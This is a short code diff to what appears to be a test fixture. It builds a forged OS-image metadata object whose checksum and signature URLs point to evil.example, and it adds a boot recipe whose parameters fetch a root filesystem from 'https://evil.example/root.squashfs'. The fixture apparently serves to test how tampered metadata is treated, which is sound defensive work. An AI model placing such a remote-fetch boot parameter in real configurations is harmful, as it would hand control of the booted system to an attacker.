@@ -32,6 +32,17 @@ const forged: Partial<SystemEdition> = {
     url: 'https://evil.example/SHA256SUMS',
     note: null,
   },
+  recipes: [
+    {
+      way: 'iso-file',
+      copy: [],
+      kernel: '/evil.example',
+      initrd: [],
+      parameters: 'fetch=https://evil.example/root.squashfs {iso}',
+      sure: 'A',
+      from: ['us'],
+    },
+  ],
   signature: {
     kind: { value: 'openpgp-list', sure: 'A', from: ['us'] },
     url: 'https://evil.example/SHA256SUMS.gpg',
@@ -43,6 +54,7 @@ const trusted = [
   'image',
   'checksum',
   'signature',
+  'recipes',
   'homepage',
   'downloadPage',
   'destructive',
